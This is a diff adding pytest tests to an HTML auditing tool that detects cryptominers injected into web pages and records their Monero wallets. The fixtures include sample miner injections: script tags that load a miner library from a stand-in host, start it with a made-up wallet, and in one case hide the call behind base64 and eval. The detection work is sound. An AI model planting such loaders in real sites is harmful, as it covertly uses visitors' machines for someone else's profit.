@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Callable
+from urllib.parse import urlsplit
 
 import pytest
 from hypothesis import given, settings
@@ -552,6 +553,63 @@ def test_miner_hidden_in_base64_is_found(audit_html: AuditHtml) -> None:
     assert kinds == {("cryptominer", H), ("obfuscated-script", H)}
     assert [(i.kind, i.value) for i in report.ids] == [
         ("coinhive-key", "Zq8Y2cVn1XbM3rT7uK5wE4sA6dF9gH0j")]
+
+
+# a made-up Monero address: `4`, a network byte's second character, 93 more of base58
+WALLET = "4B" + ("Xq7Ht2Lm9Rv3Nd8Kp5Wc6Jy1Zb4Fg" * 4)[:93]
+# a miner of no catalogued network, as injected into a CMS's head and footer: its library
+# from a host only a list's miner section names, then a loader that starts it with a wallet
+MINER_TAG = "<script id='m-lib' src='https://cdn.minerhost.test/k/w.js?v=2'></script>"
+MINER_START = ("<script>(function(d){var s=d.createElement('script');s.id='m-lib';s.onload="
+               f"function(){{RunTheWork('{WALLET}', 'site', 40)}};s.src='https://cdn.minerhost."
+               "test/k/w.js?v=2';d.body.appendChild(s)})(document)</script>")
+
+
+@pytest.mark.parametrize(("name", "html", "cited"), [
+    ("listed host and the call that starts it",
+     page(MINER_START, head=MINER_TAG), ["cdn.minerhost.test", WALLET]),
+    ("the call alone", page(MINER_START.replace("minerhost.test", "cdn.site.example")),
+     [WALLET]),
+    ("a wallet handed on after the pool",
+     page(f"<script>startMining('pool.site.example', \"{WALLET}\");</script>"), [WALLET]),
+    ("an integrated address",
+     page(f"<script>go('{WALLET}{'Ab3' * 3}Xy', 0.5)</script>"), [WALLET + "Ab3" * 3 + "Xy"]),
+    ("the call behind base64", page("<script>eval(atob('" + __import__("base64").b64encode(
+        f"RunTheWork('{WALLET}', 'site', 40)".encode()).decode() + "'))</script>"), [WALLET]),
+    # look-alikes: the listed host alone starts nothing (the list keeps hosts that left
+    # mining), a look-alike of it is no listed host, a wallet shown or assigned is no call
+    ("listed host, no wallet", page("", head=MINER_TAG), []),
+    ("look-alike host and the call", page(
+        MINER_START.replace("cdn.minerhost.test", "notminerhost.test"),
+        head=MINER_TAG.replace("cdn.minerhost.test", "cdn.minerhost.test.evil.example")),
+     [WALLET]),
+    ("a donation address in prose and <pre>",
+     page(f"<p>Tips welcome: {WALLET}</p><pre>start('{WALLET}', 50)</pre>", head=MINER_TAG), []),
+    ("a wallet assigned, not handed to a call",
+     page(f"<script>var tips = {{xmr: '{WALLET}'}};</script>", head=MINER_TAG), []),
+    ("a 94-character run", page(f"<script>start('{WALLET[:-1]}', 50)</script>"), []),
+    ("a run not in Monero's form", page(f"<script>start('4C{WALLET[2:]}', 50)</script>"), []),
+])
+def test_miner_started_for_a_wallet(name: str, html: str, cited: list[str],
+                                    audit_html: AuditHtml) -> None:
+    """A miner of no known network is started with the wallet it mines for; a host only a
+    list's miner section names is a miner's on a page that starts one."""
+    report = audit_html(html, url="https://www.site.example/post")
+    miners = [f for f in report.findings if f.kind == "cryptominer"]
+    assert all(f.severity is H for f in miners)
+    assert [urlsplit(f.evidence).hostname if f.evidence.startswith("https:") else f.evidence
+            for f in miners] == cited, [f.message for f in miners]
+    # the wallet is the page's ID: a miner injected into many sites is one operator's
+    assert [i.value for i in report.ids if i.kind == "monero-wallet"] == [
+        c for c in cited if not c.startswith("cdn.")]
+
+
+def test_a_catalogued_miners_wallet_is_its_networks(audit_html: AuditHtml) -> None:
+    """deepMiner's constructor names its wallet: one finding and one ID, its network's."""
+    report = audit_html(page(f"<script>var m = new deepMiner.Anonymous('{WALLET}');</script>"),
+                        url="https://www.site.example/post")
+    assert [(f.kind, f.evidence) for f in report.findings] == [("cryptominer", WALLET)]
+    assert [(i.kind, i.value) for i in report.ids] == [("deepminer-wallet", WALLET)]
 
 
 def test_wordpress_post_body_comments_count(audit_html: AuditHtml) -> None:
